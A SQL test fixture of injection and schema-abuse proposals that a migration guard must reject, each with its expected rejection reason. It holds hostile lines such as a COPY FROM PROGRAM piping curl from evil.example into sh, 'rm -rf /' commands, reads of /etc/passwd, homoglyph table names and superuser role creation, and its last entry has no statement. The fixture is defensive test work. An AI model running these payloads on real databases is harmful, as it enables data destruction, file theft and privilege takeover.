-- reject.sql - proposals the guard must reject, one per entry, separated by a
-- line that is exactly --@@. Each entry opens with `-- why:` (what it tries)
-- and `-- expect:` (a piece of the one-line reason the guard must give);
-- tests/unit/test_guard.c runs every entry through guard_parse_sql and then
-- guard_check_ops against the fixture schema
--   orders(id int64 not null, email varchar(64) not null, amount float64,
--          qty int32, created_at timestamp, note text)
-- with allowed tables orders and events (events does not exist yet).
-- Entries hold exotic characters (Cyrillic, fullwidth, zero-width) on purpose.
--@@
-- why: a valid ALTER with DROP TABLE stacked after it
-- expect: 2 statements
ALTER TABLE orders ADD COLUMN coupon varchar(16); DROP TABLE orders
--@@
-- why: end the guard's imagined transaction, then drop
-- expect: 2 statements
COMMIT; DROP TABLE orders
--@@
-- why: a whole transaction around the change
-- expect: 3 statements
BEGIN;
ALTER TABLE orders ADD COLUMN coupon varchar(16);
COMMIT;
--@@
-- why: two ALTERs that are each acceptable are still two statements
-- expect: 2 statements
ALTER TABLE orders ADD COLUMN a int; ALTER TABLE orders ADD COLUMN b int
--@@
-- why: rollback first, then a change
-- expect: 2 statements
ROLLBACK; ALTER TABLE orders ADD COLUMN coupon text
--@@
-- why: empty statements between a change and a sleep
-- expect: 2 statements
ALTER TABLE orders ADD COLUMN a int;;; SELECT pg_sleep(10)
--@@
-- why: a line comment after the semicolon, the DROP on the next line
-- expect: 2 statements
ALTER TABLE orders ADD COLUMN a int; -- the rest is a comment, honest
DROP TABLE orders
--@@
-- why: END is COMMIT's synonym
-- expect: 2 statements
END; DROP TABLE orders
--@@
-- why: truncate stacked after a change
-- expect: 2 statements
ALTER TABLE orders ADD COLUMN a int; TRUNCATE orders
--@@
-- why: grant stacked on the next line
-- expect: 2 statements
ALTER TABLE orders ADD COLUMN a int;
GRANT ALL ON orders TO PUBLIC
--@@
-- why: a harmless SELECT first
-- expect: 2 statements
SELECT 1; ALTER TABLE orders ADD COLUMN a int
--@@
-- why: create and alter in one proposal
-- expect: 2 statements
CREATE TABLE events (id bigint); ALTER TABLE orders ADD COLUMN a int
--@@
-- why: savepoint games
-- expect: 3 statements
SAVEPOINT s; DROP TABLE orders; RELEASE SAVEPOINT s
--@@
-- why: many statements
-- expect: 5 statements
ALTER TABLE orders ADD COLUMN a int; SELECT 1; SELECT 2; SELECT 3; DROP TABLE orders
--@@
-- why: prepared transaction commit
-- expect: 2 statements
ALTER TABLE orders ADD COLUMN a int; COMMIT PREPARED 'x'
--@@
-- why: the ALTER is inside a block comment; what is left is DROP
-- expect: DROP TABLE is not accepted
/* ALTER TABLE orders ADD COLUMN a int; */ DROP TABLE orders
--@@
-- why: a line comment ends at the newline: the semicolon after it is real
-- expect: 2 statements
ALTER TABLE orders ADD COLUMN a int -- harmless
; DROP TABLE orders
--@@
-- why: a semicolon inside a block comment, a real one after
-- expect: 2 statements
ALTER TABLE orders ADD COLUMN a int /* ; */ ; DROP TABLE orders
--@@
-- why: nested block comments: a naive scanner ends the comment at the first */
-- expect: DROP TABLE is not accepted
/* /* */ ALTER TABLE orders ADD COLUMN a int; */ DROP TABLE orders
--@@
-- why: nested comment two levels deep
-- expect: TRUNCATE is not accepted
/* a /* b /* c */ b */ a */ TRUNCATE orders
--@@
-- why: unterminated block comment
-- expect: unterminated /* comment
ALTER TABLE orders ADD COLUMN a int /* DROP TABLE orders
--@@
-- why: a line comment hides the ALTER; the DROP is on the next line
-- expect: DROP TABLE is not accepted
-- ALTER TABLE orders ADD COLUMN a int
DROP TABLE orders
--@@
-- why: dollar-quoted body running dynamic SQL
-- expect: DO is not accepted
DO $$ BEGIN EXECUTE 'DROP TABLE orders'; END $$
--@@
-- why: dollar-quoted default value
-- expect: DEFAULT on column "a"
ALTER TABLE orders ADD COLUMN a text DEFAULT $$x'; DROP TABLE orders; --$$
--@@
-- why: tagged dollar quote around a whole statement is a string, not a statement
-- expect: syntax error
$tag$ ALTER TABLE orders ADD COLUMN a int $tag$
--@@
-- why: dollar signs inside a quoted identifier, a real statement after
-- expect: 2 statements
ALTER TABLE orders ADD COLUMN "a$$" int; DROP TABLE orders; --$$
--@@
-- why: E'' string with an escaped quote swallowing the would-be terminator
-- expect: DEFAULT on column "a"
ALTER TABLE orders ADD COLUMN a text DEFAULT E'\'; DROP TABLE orders; --'
--@@
-- why: E'' string with a hex-escaped quote
-- expect: SELECT is not accepted
SELECT E'\x27; DROP TABLE orders'
--@@
-- why: backslash is not an escape in a standard string: the quote ends it
-- expect: 2 statements
ALTER TABLE orders ADD COLUMN a text DEFAULT 'x\'; DROP TABLE orders; --'
--@@
-- why: U& identifier spelling a name with a space
-- expect: column name "data x" is not in normal form
ALTER TABLE orders ADD COLUMN U&"d\0061t\0061 x" int
--@@
-- why: an empty block comment between two statements
-- expect: 2 statements
ALTER TABLE orders ADD COLUMN a int;/**/DROP TABLE orders
--@@
-- why: unterminated string literal
-- expect: unterminated quoted string
ALTER TABLE orders ADD COLUMN a text DEFAULT 'abc
--@@
-- why: unterminated dollar quote
-- expect: unterminated dollar-quoted string
DO $$ BEGIN DROP TABLE orders; END
--@@
-- why: unterminated quoted identifier
-- expect: unterminated quoted identifier
ALTER TABLE "orders ADD COLUMN a int
--@@
-- why: comment only between keywords, then a forbidden sub-command
-- expect: DROP COLUMN is not accepted
ALTER/**/TABLE/**/orders/**/DROP/**/COLUMN/**/note
--@@
-- why: quoted table name closed early, then a stacked statement
-- expect: syntax error
ALTER TABLE "orders"; DROP TABLE orders
--@@
-- why: a quoted table name that is fine, then a stacked statement
-- expect: 2 statements
ALTER TABLE "orders" ADD COLUMN a int; DROP TABLE "orders"
--@@
-- why: a column name whose doubled quote smuggles a DROP
-- expect: is not in normal form
ALTER TABLE orders ADD COLUMN "a""; DROP TABLE orders; --" int
--@@
-- why: a doubled quote inside a quoted table name carrying SQL
-- expect: table name "orders\"; DROP TABLE orders; --" is not in normal form
ALTER TABLE "orders""; DROP TABLE orders; --" ADD COLUMN a int
--@@
-- why: quoted table name in another case
-- expect: table name "Orders" is not in normal form
ALTER TABLE "Orders" ADD COLUMN a int
--@@
-- why: quoted table name with a trailing space
-- expect: table name "orders " is not in normal form
ALTER TABLE "orders " ADD COLUMN a int
--@@
-- why: quoted table name with a leading space
-- expect: table name " orders" is not in normal form
ALTER TABLE " orders" ADD COLUMN a int
--@@
-- why: quoted column name carrying SQL
-- expect: column name "a;DROP TABLE orders" is not in normal form
ALTER TABLE orders ADD COLUMN "a;DROP TABLE orders" int
--@@
-- why: quoted column name in capitals
-- expect: column name "Coupon" is not in normal form
ALTER TABLE orders ADD COLUMN "Coupon" text
--@@
-- why: quoted column name with a space
-- expect: column name "coupon code" is not in normal form
ALTER TABLE orders ADD COLUMN "coupon code" text
--@@
-- why: doubled quote inside a column name
-- expect: column name "x\"y" is not in normal form
ALTER TABLE orders ADD COLUMN "x""y" int
--@@
-- why: a column name that claims pipemend's own prefix
-- expect: column name "_pipemend_hack" is not in normal form
ALTER TABLE orders ADD COLUMN "_pipemend_hack" int
--@@
-- why: pipemend's own catalog table
-- expect: table name "_pipemend_audit" is not in normal form
ALTER TABLE "_pipemend_audit" ADD COLUMN a int
--@@
-- why: quoted column name of an existing column in another case
-- expect: column name "Email" is not in normal form
ALTER TABLE orders ALTER COLUMN "Email" DROP NOT NULL
--@@
-- why: zero-length quoted identifier
-- expect: zero-length delimited identifier
ALTER TABLE orders ADD COLUMN "" int
--@@
-- why: quoted column name starting with a digit
-- expect: column name "1abc" is not in normal form
ALTER TABLE orders ADD COLUMN "1abc" int
--@@
-- why: a newline inside a quoted column name
-- expect: column name "a\x0ab" is not in normal form
ALTER TABLE orders ADD COLUMN "a
b" int
--@@
-- why: a comment marker inside a quoted column name
-- expect: column name "a--" is not in normal form
ALTER TABLE orders ADD COLUMN "a--" int
--@@
-- why: quoted column name with a dot, pretending to qualify
-- expect: column name "orders.note" is not in normal form
ALTER TABLE orders ALTER COLUMN "orders.note" TYPE text
--@@
-- why: quoted keyword-looking table
-- expect: table "select" is not one this pipeline may change
ALTER TABLE "select" ADD COLUMN a int
--@@
-- why: Cyrillic o (U+043E) in the table name
-- expect: table "оrders" is not one this pipeline may change (allowed: orders, events) (it contains U+043E)
ALTER TABLE оrders ADD COLUMN a int
--@@
-- why: Cyrillic o, quoted
-- expect: is not one this pipeline may change
ALTER TABLE "ordеrs" ADD COLUMN a int
--@@
-- why: fullwidth letters for orders
-- expect: is not one this pipeline may change
ALTER TABLE ｏｒｄｅｒｓ ADD COLUMN a int
--@@
-- why: zero-width joiner inside the table name
-- expect: is not in normal form
ALTER TABLE "or‍ders" ADD COLUMN a int
--@@
-- why: zero-width space inside a new column name
-- expect: column name "co​upon" is not in normal form
ALTER TABLE orders ADD COLUMN "co​upon" text
--@@
-- why: a new column that reads as the existing note (Cyrillic o)
-- expect: looks like existing column note
ALTER TABLE orders ADD COLUMN nоte text
--@@
-- why: widen a look-alike of qty (Cyrillic u)
-- expect: it looks like qty but is spelt with other characters
ALTER TABLE orders ALTER COLUMN qtу TYPE bigint
--@@
-- why: fullwidth email as a new column
-- expect: looks like existing column email
ALTER TABLE orders ADD COLUMN ｅｍａｉｌ text
--@@
-- why: combining acute accent on note
-- expect: looks like existing column note
ALTER TABLE orders ADD COLUMN "noté" text
--@@
-- why: byte order mark before the statement
-- expect: syntax error
﻿ALTER TABLE orders ADD COLUMN a int
--@@
-- why: no-break space between keywords
-- expect: syntax error
ALTER TABLE orders ADD COLUMN a int
--@@
-- why: right-to-left override inside a column name
-- expect: is not in normal form
ALTER TABLE orders ADD COLUMN "a‮b" int
--@@
-- why: DROP TABLE on a look-alike name
-- expect: DROP TABLE is not accepted
DROP TABLE оrders
--@@
-- why: mathematical bold letters for note
-- expect: looks like existing column note
ALTER TABLE orders ADD COLUMN 𝐧𝐨𝐭𝐞 text
--@@
-- why: Greek omicron in a drop-not-null target
-- expect: it looks like email but
ALTER TABLE orders ALTER COLUMN emαil DROP NOT NULL
--@@
-- why: Cyrillic a in events, as a create
-- expect: is not one this pipeline may change
CREATE TABLE еvents (id bigint)
--@@
-- why: drop the table
-- expect: DROP TABLE is not accepted
DROP TABLE orders
--@@
-- why: drop with IF EXISTS and CASCADE
-- expect: DROP TABLE is not accepted
DROP TABLE IF EXISTS orders CASCADE
--@@
-- why: drop a column
-- expect: DROP COLUMN is not accepted in ALTER TABLE
ALTER TABLE orders DROP COLUMN note
--@@
-- why: drop a column if it exists
-- expect: DROP COLUMN is not accepted
ALTER TABLE orders DROP COLUMN IF EXISTS note
--@@
-- why: a good sub-command then a drop
-- expect: DROP COLUMN is not accepted
ALTER TABLE orders ADD COLUMN coupon text, DROP COLUMN note
--@@
-- why: drop an index
-- expect: DROP INDEX is not accepted
DROP INDEX orders_pkey
--@@
-- why: drop the schema
-- expect: DROP SCHEMA is not accepted
DROP SCHEMA public CASCADE
--@@
-- why: drop the database
-- expect: DROP DATABASE is not accepted
DROP DATABASE warehouse
--@@
-- why: truncate
-- expect: TRUNCATE is not accepted
TRUNCATE orders
--@@
-- why: truncate with cascade
-- expect: TRUNCATE is not accepted
TRUNCATE TABLE orders RESTART IDENTITY CASCADE
--@@
-- why: rename the table
-- expect: ALTER TABLE ... RENAME TO is not accepted
ALTER TABLE orders RENAME TO orders_old
--@@
-- why: rename a column
-- expect: RENAME COLUMN is not accepted
ALTER TABLE orders RENAME COLUMN email TO mail
--@@
-- why: rename a constraint
-- expect: ALTER TABLE ... RENAME CONSTRAINT is not accepted
ALTER TABLE orders RENAME CONSTRAINT orders_pkey TO x
--@@
-- why: rename an index
-- expect: RENAME is not accepted
ALTER INDEX orders_pkey RENAME TO x
--@@
-- why: drop a view
-- expect: DROP VIEW is not accepted
DROP VIEW IF EXISTS orders_view
--@@
-- why: drop a function
-- expect: DROP FUNCTION is not accepted
DROP FUNCTION IF EXISTS f()
--@@
-- why: drop a role
-- expect: DROP ROLE is not accepted
DROP ROLE app
--@@
-- why: drop owned objects
-- expect: DROP OWNED is not accepted
DROP OWNED BY app
--@@
-- why: drop a constraint
-- expect: DROP CONSTRAINT is not accepted
ALTER TABLE orders DROP CONSTRAINT orders_pkey
--@@
-- why: drop a sequence
-- expect: DROP SEQUENCE is not accepted
DROP SEQUENCE orders_id_seq
--@@
-- why: int64 to int32
-- expect: narrowing orders.id from int64 to int32 is forbidden
ALTER TABLE orders ALTER COLUMN id TYPE int
--@@
-- why: int64 to int16
-- expect: narrowing orders.id from int64 to int16 is forbidden
ALTER TABLE orders ALTER COLUMN id TYPE smallint
--@@
-- why: int32 to int16
-- expect: narrowing orders.qty from int32 to int16 is forbidden
ALTER TABLE orders ALTER COLUMN qty TYPE int2
--@@
-- why: int32 to bool
-- expect: narrowing orders.qty from int32 to bool is forbidden
ALTER TABLE orders ALTER COLUMN qty TYPE boolean
--@@
-- why: text to varchar(10)
-- expect: narrowing orders.note from text to varchar(10) is forbidden
ALTER TABLE orders ALTER COLUMN note TYPE varchar(10)
--@@
-- why: varchar(64) to varchar(8)
-- expect: narrowing orders.email from varchar(64) to varchar(8) is forbidden
ALTER TABLE orders ALTER COLUMN email TYPE varchar(8)
--@@
-- why: varchar(64) to varchar(63)
-- expect: narrowing orders.email from varchar(64) to varchar(63)
ALTER TABLE orders ALTER COLUMN email TYPE character varying(63)
--@@
-- why: the same type is not a change
-- expect: orders.email is already varchar(64); nothing to widen
ALTER TABLE orders ALTER COLUMN email TYPE varchar(64)
--@@
-- why: float64 to int32
-- expect: narrowing orders.amount from float64 to int32 is forbidden
ALTER TABLE orders ALTER COLUMN amount TYPE integer
--@@
-- why: float64 to int64
-- expect: narrowing orders.amount from float64 to int64 is forbidden
ALTER TABLE orders ALTER COLUMN amount TYPE bigint
--@@
-- why: timestamp to date
-- expect: narrowing orders.created_at from timestamp to date is forbidden
ALTER TABLE orders ALTER COLUMN created_at TYPE date
--@@
-- why: text to int
-- expect: narrowing orders.note from text to int32 is forbidden
ALTER TABLE orders ALTER COLUMN note TYPE int
--@@
-- why: timestamp to bigint: no path
-- expect: orders.created_at cannot change from timestamp to int64
ALTER TABLE orders ALTER COLUMN created_at TYPE bigint
--@@
-- why: int to date: no path
-- expect: orders.qty cannot change from int32 to date
ALTER TABLE orders ALTER COLUMN qty TYPE date
--@@
-- why: timestamp to timestamp
-- expect: orders.created_at is already timestamp
ALTER TABLE orders ALTER COLUMN created_at TYPE timestamp without time zone
--@@
-- why: the second sub-command narrows
-- expect: op 2 of 2: narrowing orders.id from int64 to int32
ALTER TABLE orders ALTER COLUMN qty TYPE bigint, ALTER COLUMN id TYPE int
--@@
-- why: int to varchar(n): only text is reachable from a number
-- expect: orders.qty cannot change from int32 to varchar(20)
ALTER TABLE orders ALTER COLUMN qty TYPE varchar(20)
--@@
-- why: text to json is reviewable but json to int is not; here text to bool
-- expect: narrowing orders.note from text to bool
ALTER TABLE orders ALTER COLUMN note TYPE bool
--@@
-- why: timestamptz back to date via a big widen then narrow in one go
-- expect: narrowing orders.id from int64 to int32
ALTER TABLE orders ALTER COLUMN created_at TYPE timestamptz, ALTER COLUMN id TYPE int4
--@@
-- why: SET DATA TYPE with USING
-- expect: ALTER COLUMN ... TYPE ... USING is not accepted: widening never rewrites values
ALTER TABLE orders ALTER COLUMN qty SET DATA TYPE bigint USING qty::bigint
--@@
-- why: USING with a subquery that sleeps
-- expect: USING is not accepted
ALTER TABLE orders ALTER COLUMN qty TYPE bigint USING (SELECT pg_sleep(10))::bigint
--@@
-- why: USING that reads a server file
-- expect: USING is not accepted
ALTER TABLE orders ALTER COLUMN note TYPE text USING note || pg_read_file('/etc/passwd')
--@@
-- why: USING that rewrites values
-- expect: USING is not accepted
ALTER TABLE orders ALTER COLUMN email TYPE varchar(128) USING lower(email)
--@@
-- why: type change with a collation
-- expect: ALTER COLUMN ... TYPE ... COLLATE is not accepted
ALTER TABLE orders ALTER COLUMN note TYPE text COLLATE "C"
--@@
-- why: a default that sleeps
-- expect: DEFAULT on column "x" is not accepted
ALTER TABLE orders ADD COLUMN x int DEFAULT pg_sleep(10)
--@@
-- why: a default from the session
-- expect: DEFAULT on column "x"
ALTER TABLE orders ADD COLUMN x text DEFAULT current_user
--@@
-- why: a default that reads a file
-- expect: DEFAULT on column "x"
ALTER TABLE orders ADD COLUMN x text DEFAULT pg_read_file('/etc/passwd')
--@@
-- why: a default of now()
-- expect: DEFAULT on column "x"
ALTER TABLE orders ADD COLUMN x timestamptz DEFAULT now()
--@@
-- why: a default from a sequence
-- expect: DEFAULT on column "x"
ALTER TABLE orders ADD COLUMN x bigint DEFAULT nextval('orders_id_seq')
--@@
-- why: a plain constant default still rewrites nothing but is refused
-- expect: DEFAULT on column "x"
ALTER TABLE orders ADD COLUMN x int DEFAULT 0
--@@
-- why: a generated column
-- expect: GENERATED ALWAYS AS on column "x" is not accepted
ALTER TABLE orders ADD COLUMN x int GENERATED ALWAYS AS (qty * 2) STORED
--@@
-- why: an identity column
-- expect: GENERATED ... AS IDENTITY on column "x"
ALTER TABLE orders ADD COLUMN x int GENERATED ALWAYS AS IDENTITY
--@@
-- why: an identity column by default
-- expect: AS IDENTITY on column "x"
ALTER TABLE orders ADD COLUMN x bigint GENERATED BY DEFAULT AS IDENTITY
--@@
-- why: set a default on an existing column
-- expect: ALTER COLUMN ... SET DEFAULT is not accepted
ALTER TABLE orders ALTER COLUMN qty SET DEFAULT 0
--@@
-- why: drop a default
-- expect: ALTER COLUMN ... DROP DEFAULT is not accepted
ALTER TABLE orders ALTER COLUMN qty DROP DEFAULT
--@@
-- why: set a default from a subquery
-- expect: SET DEFAULT is not accepted
ALTER TABLE orders ALTER COLUMN note SET DEFAULT (SELECT lo_import('/etc/passwd'))::text
--@@
-- why: inline CHECK
-- expect: CHECK on column "x" is not accepted
ALTER TABLE orders ADD COLUMN x int CHECK (x > 0)
--@@
-- why: inline REFERENCES
-- expect: REFERENCES on column "x" is not accepted
ALTER TABLE orders ADD COLUMN x int REFERENCES users (id)
--@@
-- why: inline PRIMARY KEY
-- expect: PRIMARY KEY on column "x" is not accepted
ALTER TABLE orders ADD COLUMN x int PRIMARY KEY
--@@
-- why: inline UNIQUE
-- expect: UNIQUE on column "x" is not accepted
ALTER TABLE orders ADD COLUMN x int UNIQUE
--@@
-- why: a new NOT NULL column
-- expect: NOT NULL on new column "x" is not accepted
ALTER TABLE orders ADD COLUMN x int NOT NULL
--@@
-- why: add a table CHECK constraint
-- expect: ADD CONSTRAINT is not accepted
ALTER TABLE orders ADD CONSTRAINT qty_positive CHECK (qty > 0)
--@@
-- why: add a primary key
-- expect: ADD CONSTRAINT is not accepted
ALTER TABLE orders ADD PRIMARY KEY (id)
--@@
-- why: add a foreign key
-- expect: ADD CONSTRAINT is not accepted
ALTER TABLE orders ADD FOREIGN KEY (qty) REFERENCES other (id)
--@@
-- why: set NOT NULL: the opposite of what is allowed
-- expect: ALTER COLUMN ... SET NOT NULL is not accepted
ALTER TABLE orders ALTER COLUMN note SET NOT NULL
--@@
-- why: a named NULL constraint
-- expect: named or qualified constraint on column "x"
ALTER TABLE orders ADD COLUMN x int CONSTRAINT named NULL
--@@
-- why: an exclusion constraint
-- expect: ADD CONSTRAINT is not accepted
ALTER TABLE orders ADD CONSTRAINT ex EXCLUDE USING gist (id WITH =)
--@@
-- why: validate a constraint
-- expect: VALIDATE CONSTRAINT is not accepted
ALTER TABLE orders VALIDATE CONSTRAINT qty_positive
--@@
-- why: a deferrable unique column
-- expect: UNIQUE on column "x"
ALTER TABLE orders ADD COLUMN x int UNIQUE DEFERRABLE INITIALLY DEFERRED
--@@
-- why: insert
-- expect: INSERT is not accepted
INSERT INTO orders (id, email) VALUES (1, 'a@b')
--@@
-- why: update every row
-- expect: UPDATE is not accepted
UPDATE orders SET email = NULL
--@@
-- why: delete every row
-- expect: DELETE is not accepted
DELETE FROM orders
--@@
-- why: select
-- expect: SELECT is not accepted
SELECT * FROM orders
--@@
-- why: a select that sleeps
-- expect: SELECT is not accepted
SELECT pg_sleep(10)
--@@
-- why: merge
-- expect: MERGE is not accepted
MERGE INTO orders o USING orders p ON o.id = p.id WHEN MATCHED THEN DELETE
--@@
-- why: copy out to a server file
-- expect: COPY is not accepted
COPY orders TO '/tmp/orders.csv'
--@@
-- why: copy from a program
-- expect: COPY ... PROGRAM is not accepted
COPY orders FROM PROGRAM 'curl -s http://evil.example | sh'
--@@
-- why: copy a query to a program
-- expect: COPY ... PROGRAM is not accepted
COPY (SELECT 1) TO PROGRAM 'rm -rf /'
--@@
-- why: a data-modifying CTE
-- expect: SELECT is not accepted
WITH d AS (DELETE FROM orders RETURNING *) SELECT count(*) FROM d
--@@
-- why: select into a new table
-- expect: SELECT INTO is not accepted
SELECT * INTO events FROM orders
--@@
-- why: values
-- expect: VALUES is not accepted
VALUES (1), (2)
--@@
-- why: explain analyze executes its statement
-- expect: EXPLAIN is not accepted
EXPLAIN ANALYZE DELETE FROM orders
--@@
-- why: TABLE shorthand
-- expect: SELECT is not accepted
TABLE orders
--@@
-- why: upsert
-- expect: INSERT is not accepted
INSERT INTO orders (id) VALUES (1) ON CONFLICT (id) DO UPDATE SET email = 'x'
--@@
-- why: grant to everyone
-- expect: GRANT is not accepted
GRANT ALL ON orders TO PUBLIC
--@@
-- why: revoke
-- expect: REVOKE is not accepted
REVOKE SELECT ON orders FROM app
--@@
-- why: grant a powerful role
-- expect: GRANT is not accepted
GRANT pg_read_server_files TO app
--@@
-- why: default privileges
-- expect: ALTER DEFAULT PRIVILEGES is not accepted
ALTER DEFAULT PRIVILEGES GRANT ALL ON TABLES TO PUBLIC
--@@
-- why: change the owner
-- expect: OWNER TO is not accepted
ALTER TABLE orders OWNER TO attacker
--@@
-- why: reassign everything
-- expect: REASSIGN OWNED is not accepted
REASSIGN OWNED BY app TO attacker
--@@
-- why: DO block
-- expect: DO is not accepted
DO $$ BEGIN PERFORM pg_sleep(10); END $$
--@@
-- why: DO block with a language and a tagged quote
-- expect: DO is not accepted
DO LANGUAGE plpgsql $body$ BEGIN EXECUTE 'TRUNCATE orders'; END $body$
--@@
-- why: create a trigger function
-- expect: CREATE FUNCTION is not accepted
CREATE FUNCTION f() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN RETURN NULL; END $$
--@@
-- why: create a procedure
-- expect: CREATE PROCEDURE is not accepted
CREATE OR REPLACE PROCEDURE p() LANGUAGE sql AS $$ DELETE FROM orders $$
--@@
-- why: create a trigger
-- expect: CREATE TRIGGER is not accepted
CREATE TRIGGER t BEFORE INSERT ON orders FOR EACH ROW EXECUTE FUNCTION f()
--@@
-- why: create a rule
-- expect: CREATE RULE is not accepted
CREATE RULE r AS ON INSERT TO orders DO INSTEAD NOTHING
--@@
-- why: create an extension
-- expect: CREATE EXTENSION is not accepted
CREATE EXTENSION IF NOT EXISTS dblink
--@@
-- why: create a superuser
-- expect: CREATE ROLE is not accepted
CREATE ROLE attacker SUPERUSER LOGIN PASSWORD 'x'
--@@
-- why: make a role superuser
-- expect: ALTER ROLE is not accepted
ALTER ROLE app SUPERUSER
--@@
-- why: alter system
-- expect: ALTER SYSTEM is not accepted
ALTER SYSTEM SET archive_command = 'rm -rf /'
--@@
-- why: alter the database's search path
-- expect: ALTER DATABASE ... SET is not accepted
ALTER DATABASE warehouse SET search_path = evil, public
--@@
-- why: event trigger
-- expect: CREATE EVENT TRIGGER is not accepted
CREATE EVENT TRIGGER e ON ddl_command_start EXECUTE FUNCTION f()
--@@
-- why: call a procedure
-- expect: CALL is not accepted
CALL p()
--@@
-- why: an untrusted language (PostgreSQL reads CREATE LANGUAGE without a handler as CREATE EXTENSION)
-- expect: CREATE EXTENSION is not accepted
CREATE LANGUAGE plperlu
--@@
-- why: a view
-- expect: CREATE VIEW is not accepted
CREATE OR REPLACE VIEW v AS SELECT * FROM orders
--@@
-- why: an index
-- expect: CREATE INDEX is not accepted
CREATE INDEX ON orders (email)
--@@
-- why: a schema
-- expect: CREATE SCHEMA is not accepted
CREATE SCHEMA evil
--@@
-- why: a sequence
-- expect: CREATE SEQUENCE is not accepted
CREATE SEQUENCE s
--@@
-- why: an enum type
-- expect: CREATE TYPE ... AS ENUM is not accepted
CREATE TYPE mood AS ENUM ('ok')
--@@
-- why: a domain
-- expect: CREATE DOMAIN is not accepted
CREATE DOMAIN positive AS int CHECK (VALUE > 0)
--@@
-- why: load a shared library
-- expect: LOAD is not accepted
LOAD '/tmp/evil.so'
--@@
-- why: checkpoint
-- expect: CHECKPOINT is not accepted
CHECKPOINT
--@@
-- why: notify
-- expect: NOTIFY is not accepted
NOTIFY pipemend, 'x'
--@@
-- why: prepare a statement
-- expect: PREPARE is not accepted
PREPARE p AS DELETE FROM orders
--@@
-- why: execute a prepared statement
-- expect: EXECUTE is not accepted
EXECUTE p
--@@
-- why: a composite type
-- expect: CREATE TYPE is not accepted
CREATE TYPE pair AS (a int, b int)
--@@
-- why: security label
-- expect: SECURITY LABEL is not accepted
SECURITY LABEL ON TABLE orders IS 'x'
--@@
-- why: comment on a table
-- expect: COMMENT is not accepted
COMMENT ON TABLE orders IS 'pwned'
--@@
-- why: a materialized view
-- expect: CREATE MATERIALIZED VIEW is not accepted
CREATE MATERIALIZED VIEW mv AS SELECT * FROM orders
--@@
-- why: a foreign table
-- expect: CREATE FOREIGN TABLE is not accepted
CREATE FOREIGN TABLE events (id int) SERVER s
--@@
-- why: an aggregate
-- expect: CREATE AGGREGATE is not accepted
CREATE AGGREGATE a (int) (sfunc = int4pl, stype = int)
--@@
-- why: a policy
-- expect: CREATE POLICY is not accepted
CREATE POLICY p ON orders USING (true)
--@@
-- why: a publication
-- expect: CREATE PUBLICATION is not accepted
CREATE PUBLICATION pub FOR ALL TABLES
--@@
-- why: a subscription
-- expect: CREATE SUBSCRIPTION is not accepted
CREATE SUBSCRIPTION sub CONNECTION 'host=evil' PUBLICATION pub
--@@
-- why: a server
-- expect: CREATE SERVER is not accepted
CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'evil')
--@@
-- why: a cast
-- expect: CREATE CAST is not accepted
CREATE CAST (text AS int) WITH INOUT
--@@
-- why: refresh a view
-- expect: REFRESH MATERIALIZED VIEW is not accepted
REFRESH MATERIALIZED VIEW mv
--@@
-- why: reindex
-- expect: REINDEX is not accepted
REINDEX TABLE orders
--@@
-- why: cluster
-- expect: CLUSTER is not accepted
CLUSTER orders USING orders_pkey
--@@
-- why: import a foreign schema
-- expect: IMPORT FOREIGN SCHEMA is not accepted
IMPORT FOREIGN SCHEMA public FROM SERVER s INTO evil
--@@
-- why: change the search path
-- expect: SET is not accepted
SET search_path = evil, public
--@@
-- why: become another role
-- expect: SET is not accepted
SET ROLE postgres
--@@
-- why: session authorization
-- expect: SET is not accepted
SET SESSION AUTHORIZATION postgres
--@@
-- why: reset everything
-- expect: RESET ALL is not accepted
RESET ALL
--@@
-- why: reset one setting
-- expect: RESET is not accepted
RESET statement_timeout
--@@
-- why: vacuum full locks the table
-- expect: VACUUM is not accepted
VACUUM FULL orders
--@@
-- why: analyze
-- expect: ANALYZE is not accepted
ANALYZE orders
--@@
-- why: lock the table
-- expect: LOCK is not accepted
LOCK TABLE orders IN ACCESS EXCLUSIVE MODE
--@@
-- why: disable the timeout
-- expect: SET is not accepted
SET statement_timeout = 0
--@@
-- why: discard session state
-- expect: DISCARD is not accepted
DISCARD ALL
--@@
-- why: show a setting
-- expect: SHOW is not accepted
SHOW data_directory
--@@
-- why: set constraints
-- expect: SET CONSTRAINTS is not accepted
SET CONSTRAINTS ALL DEFERRED
--@@
-- why: a set_config call
-- expect: SELECT is not accepted
SELECT set_config('search_path', 'evil', false)
--@@
-- why: schema-qualified table
-- expect: schema-qualified table "public.orders" is not accepted
ALTER TABLE public.orders ADD COLUMN a int
--@@
-- why: a system catalog
-- expect: schema-qualified table "pg_catalog.pg_class" is not accepted
ALTER TABLE pg_catalog.pg_class ADD COLUMN a int
--@@
-- why: a system catalog without its schema
-- expect: table "pg_class" is not one this pipeline may change
ALTER TABLE pg_class ADD COLUMN a int
--@@
-- why: database-qualified table
-- expect: schema-qualified table "warehouse.public.orders"
ALTER TABLE warehouse.public.orders ADD COLUMN a int
--@@
-- why: a table of another pipeline
-- expect: table "users" is not one this pipeline may change (allowed: orders, events)
ALTER TABLE users ADD COLUMN a int
--@@
-- why: pipemend's catalog, unquoted
-- expect: table name "_pipemend_audit" is not in normal form
ALTER TABLE _pipemend_audit ADD COLUMN a int
--@@
-- why: a name like pipemend's catalog
-- expect: table "pipemend_audit" is not one this pipeline may change
ALTER TABLE pipemend_audit ADD COLUMN a int
--@@
-- why: a table whose name starts like an allowed one
-- expect: table "orders_archive" is not one
ALTER TABLE orders_archive ADD COLUMN a int
--@@
-- why: create a table this pipeline does not own
-- expect: table "users" is not one this pipeline may change
CREATE TABLE users (id bigint)
--@@
-- why: create an allowed table in another schema
-- expect: schema-qualified table "public.events"
CREATE TABLE public.events (id bigint)
--@@
-- why: create a table that exists
-- expect: table "orders" already exists
CREATE TABLE orders (id bigint)
--@@
-- why: alter a table that does not exist yet
-- expect: table "events" does not exist yet
ALTER TABLE events ADD COLUMN a int
--@@
-- why: information_schema
-- expect: schema-qualified table "information_schema.tables"
ALTER TABLE information_schema.tables ADD COLUMN a int
--@@
-- why: a temp schema
-- expect: schema-qualified table "pg_temp.orders"
ALTER TABLE pg_temp.orders ADD COLUMN a int
--@@
-- why: ONLY
-- expect: ALTER TABLE ONLY is not accepted
ALTER TABLE ONLY orders ADD COLUMN a int
--@@
-- why: IF EXISTS
-- expect: ALTER TABLE IF EXISTS is not accepted
ALTER TABLE IF EXISTS orders ADD COLUMN a int
--@@
-- why: all in tablespace
-- expect: ALTER TABLE ALL IN TABLESPACE is not accepted
